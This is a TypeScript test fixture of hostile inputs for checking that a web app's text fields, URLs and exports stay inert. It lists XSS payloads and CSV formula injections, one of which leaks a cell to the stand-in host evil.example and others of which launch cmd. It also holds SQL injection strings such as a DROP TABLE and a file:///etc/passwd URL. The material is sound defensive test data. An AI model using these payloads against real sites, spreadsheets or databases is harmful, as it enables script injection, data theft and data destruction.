/**
 * Hostile input, shared by the unit tests and the end-to-end sweep (e2e/hostile-input.spec.ts),
 * so both put the same strings through every text field.
 *
 * Every payload that would run code if a page, feed or export ever let it be interpreted as
 * HTML, a URL or script sets `window.__pwned` or calls `alert()`: the e2e sweep fails on
 * either, with the Content Security Policy bypassed, so it is the markup itself that must be
 * inert and not the second line of defence.
 */

/** The global every executing payload sets. */
export const PWNED_GLOBAL = "__pwned";

export const XSS_PAYLOADS = {
  scriptTag: "<script>window.__pwned=1</script>",
  imgOnerror: '<img src=x onerror="window.__pwned=1">',
  svgOnload: "<svg onload=alert(1)>",
  /** Closes a quoted attribute and the tag it is in, then opens a script. */
  attributeBreak: '"><script>window.__pwned=1</script>',
  singleQuoteAttributeBreak: "' autofocus onfocus='window.__pwned=1' x='",
  /** For text that ever lands inside a JavaScript template literal or string. */
  templateLiteral: "${window.__pwned=1}`;alert(1);`'\";alert(1);//",
  /** Ends a JSON-LD (or any inline) script element early and starts one of its own. */
  scriptClose: "</script><script>window.__pwned=1</script><!--",
  javascriptUrl: "javascript:window.__pwned=1",
  iframeSrcdoc: '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  /** Mutation XSS: harmless as parsed once, a live handler if serialised and parsed again. */
  mutation: "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  markdownLink: "[read more](javascript:window.__pwned=1)",
  markdownImage: '![chart](x" onerror="alert(1))',
  markdownAutolink: "<javascript:alert(1)>",
  /** Already escaped: must be shown as typed, never decoded into live markup. */
  htmlEntities: "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;window.__pwned=1&#60;/script&#62;",
  csvFormula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  csvFormulaPlus: "+cmd|' /C calc'!A0",
  csvFormulaAt: "@SUM(1+1)*cmd|' /C calc'!A0",
} as const;

/** Every XSS payload, one after another, for fields long enough to hold them all. */
export const ALL_XSS = Object.values(XSS_PAYLOADS).join(" ");

/** URLs a source, an article's source URL or an archived copy must refuse (only http and https are accepted). */
export const NON_HTTP_URLS = [
  "javascript:alert(1)",
  "JAVASCRIPT:alert(1)",
  "  javascript:alert(1)",
  "\njavascript:alert(1)",
  "java\nscript:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "file:///etc/passwd",
  "ftp://example.com/file",
  "vbscript:msgbox(1)",
  "//evil.example/path",
  "/relative/path",
  "https//missing-colon.example",
] as const;

export const SQL_METACHARACTERS = {
  dropTable: "'; DROP TABLE claim; --",
  orTrue: "\" OR 1=1 --",
  percent: "%",
  underscore: "_",
  backslash: "\\",
  /** All three LIKE metacharacters in a word that should be found only by itself. */
  likeWildcards: "100%_done\\",
} as const;

export const UNICODE_EDGE_CASES = {
  /** Right-to-left override and embedding, Arabic, Hebrew and a right-to-left mark. */
  rightToLeft: "\u202Egnp.exe\u202C مرحبا بالعالم שלום עולם\u200F!",
  /** Zero-width space, zero-width joiner (inside a family emoji) and a byte-order mark mid-text. */
  zeroWidth: "zero\u200Bwidth \u{1F468}\u200D\u{1F469}\u200D\u{1F467} join\uFEFFed",
  /** Characters outside the Basic Multilingual Plane: two UTF-16 units, one code point each. */
  astral: "😀 𠀀𠜎 𝐀𝐁 🇨🇳",
  /** Half a surrogate pair, alone: not valid Unicode, so it cannot be stored as UTF-8. */
  loneHighSurrogate: "\uD800",
  loneLowSurrogate: "\uDC00",
} as const;

/** What a lone surrogate is stored as (see wellFormedString in lib/validation.ts). */
export const REPLACEMENT_CHARACTER = "\uFFFD";

/** Dates that are not dates: each must be refused with a message wherever a date is typed. */
export const IMPOSSIBLE_DATES = ["2023-02-30", "2023-02-29", "2023-13-01", "2023-00-10", "2023-04-31", "0000-00-00", "yesterday", "2023-2-3", "2023-02-30T00:00:00Z", "20230230"] as const;
